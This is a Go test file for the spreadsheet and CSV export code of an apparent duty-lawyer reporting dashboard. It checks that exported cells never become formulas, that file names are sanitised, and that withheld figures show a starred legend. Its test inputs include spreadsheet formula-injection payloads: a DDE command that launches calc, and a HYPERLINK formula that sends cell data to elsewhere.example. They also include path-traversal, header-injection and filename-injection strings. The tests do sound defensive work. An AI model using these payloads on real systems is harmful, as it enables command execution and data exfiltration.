package export

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"zhiban/dashboard/report"
	"zhiban/schemas"
)

// formulas are texts that an office program would run, or send somewhere.
var formulas = []string{"=cmd|' /C calc'!A0", "=HYPERLINK(\"http://elsewhere.example?\"&A1)", "+1", "-1", "-1+cmd|' /C calc'!A0", "@x", "\t=1", "\r=1", "\n=1", "＝1", "－1"}

func table(t *testing.T, heads []string, rows ...[]any) [][]string {
	t.Helper()
	var b bytes.Buffer
	c, err := NewCSV(&b, heads...)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := c.Row(row...); err != nil {
			t.Fatal(err)
		}
	}
	if err := c.End(); err != nil {
		t.Fatal(err)
	}
	text, ok := strings.CutPrefix(b.String(), "\uFEFF")
	if !ok {
		t.Error("no byte order mark")
	}
	read, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return read
}

func TestNoTextOfCSVIsAFormula(t *testing.T) {
	for _, text := range formulas {
		read := table(t, []string{text, "figure"}, []any{text, int64(-1)}, []any{"榆树" + text, 0})
		for _, cell := range []string{read[0][0], read[1][0]} {
			if !strings.HasPrefix(cell, "'") {
				t.Errorf("%q begins a cell", cell)
			}
		}
		if read[1][1] != "-1" || read[2][0] != strings.ReplaceAll("榆树"+text, "\r\n", "\n") {
			t.Errorf("%q", read)
		}
	}
	var b bytes.Buffer
	c, err := NewCSV(&b)
	if err != nil {
		t.Fatal(err)
	}
	if c.Row([]byte("=1")) == nil {
		t.Error("a cell of another type is taken as it comes")
	}
}

func TestWhatIsNoFormulaStaysAsItIs(t *testing.T) {
	rapid.Check(t, func(r *rapid.T) {
		text := rapid.StringMatching(`[\p{Han}A-Za-z0-9 ",;=+@-]{1,20}`).Draw(r, "text")
		got := table(t, []string{"text"}, []any{text})[1][0]
		if want := strings.TrimPrefix(got, "'"); want != text || (got != text) != strings.ContainsAny(text[:1], "=+-@") {
			r.Errorf("%q became %q", text, got)
		}
	})
}

func TestNoTextOfAListOfPostingsIsAFormula(t *testing.T) {
	for _, text := range append(slices.Clone(formulas), hostile) {
		p := report.Posting{Indicator: schemas.IndicatorCode(text), Quantity: -1, Division: "220182", Station: "220182-court", Lawyer: "12201201810123456", Mode: text, Channel: text, PersonRole: text, Organ: text, Due: text, Type: text}
		var b bytes.Buffer
		err := Postings(&b, 1, PostingNames{map[string]string{"220182-court": text}, map[string]string{"12201201810123456": text}}, func(do func(report.Posting) error) error { return do(p) })
		if err != nil {
			t.Fatal(err)
		}
		parts(t, b.Bytes())
		book := open(t, b.Bytes())
		texts := 0
		for col := 1; col <= len(postingColumns); col++ {
			cell := cellName(col, 2)
			kind, err := book.GetCellType("明细", cell)
			if err != nil {
				t.Fatal(err)
			}
			formula, err := book.GetCellFormula("明细", cell)
			if err != nil {
				t.Fatal(err)
			}
			value, err := book.GetCellValue("明细", cell)
			if err != nil {
				t.Fatal(err)
			}
			if number := col == 3 || col >= 20; formula != "" || number == (kind == excelize.CellTypeInlineString) {
				t.Errorf("%s of %q: type %v, formula %q, value %q", cell, text, kind, formula, value)
			}
			if value == clean(text) && col != 3 {
				texts++
			}
			if col == 3 && value != "-1" {
				t.Errorf("the quantity is %q", value)
			}
		}
		if texts != 9 {
			t.Errorf("%q stands as it is in %d cells", text, texts)
		}
	}
}

func TestFileNamesAreSafe(t *testing.T) {
	for _, text := range append(slices.Clone(formulas), hostile, "../../etc/passwd", `..\..\x`, "a\r\nSet-Cookie: x=1", `a"; filename="b.exe`) {
		y := sampleLawyer()
		y.Lawyer.Name = text
		f, err := LawyerRecord(y)
		if err != nil {
			t.Fatal(err)
		}
		if strings.ContainsAny(f.Name, "/\\:*?\"<>|\r\n\t\x00") || !strings.HasPrefix(f.Name, "值班律师履职记录") || !strings.HasSuffix(f.Name, ".xlsx") {
			t.Errorf("%q makes the file name %q", text, f.Name)
		}
	}
}

// Who may not find out about few complaints reads the same sign in every file.
func TestWithheldFiguresAreAStarWithItsLegend(t *testing.T) {
	hide := report.Figure{Status: report.NotAvailable, Withheld: true}
	y := sampleLawyer()
	y.Total.Figures[schemas.Complaints] = hide
	for i := range y.Months {
		y.Months[i].Figures[schemas.Complaints] = hide
	}
	record, err := LawyerRecord(y)
	if err != nil {
		t.Fatal(err)
	}
	m := sampleMonth("220182")
	for g := range m.Groups {
		for l := range m.Groups[g].Lines {
			if line := &m.Groups[g].Lines[l]; line.Indicator.Code == schemas.Complaints {
				line.Month, line.Year, line.LastYear, line.Before = hide, hide, hide, hide
			}
		}
	}
	month, err := CountyMonth(m)
	if err != nil {
		t.Fatal(err)
	}
	for name, f := range map[string]File{"record": record, "month": month} {
		text := describe(t, open(t, f.Body))
		if stars := strings.Count(text, `"`+star+`"`); stars < 2 {
			t.Errorf("%s: %d stars", name, stars)
		}
		if !strings.Contains(text, starLegend) {
			t.Errorf("%s: the star has no legend", name)
		}
	}
	d := sampleDeck("220182")
	data := newDeckData(d)
	if data.Key.starred() || strings.Contains(data.Basis+data.Key.Note, starLegend) {
		t.Error("slides without a withheld figure have the legend")
	}
	d.Key[0].Now = hide
	data = newDeckData(d)
	if row := data.Key.Rows[0]; row[2].Text != star || row[4].Text != star || row[6].Text != star || !strings.Contains(data.Basis, starLegend) || !strings.Contains(data.Key.Note, starLegend) {
		t.Errorf("slides: %+v %s", row, data.Basis)
	}
	clear, err := LawyerRecord(sampleLawyer())
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(describe(t, open(t, clear.Body)), star) {
		t.Error("a record without a withheld figure has the star")
	}
}
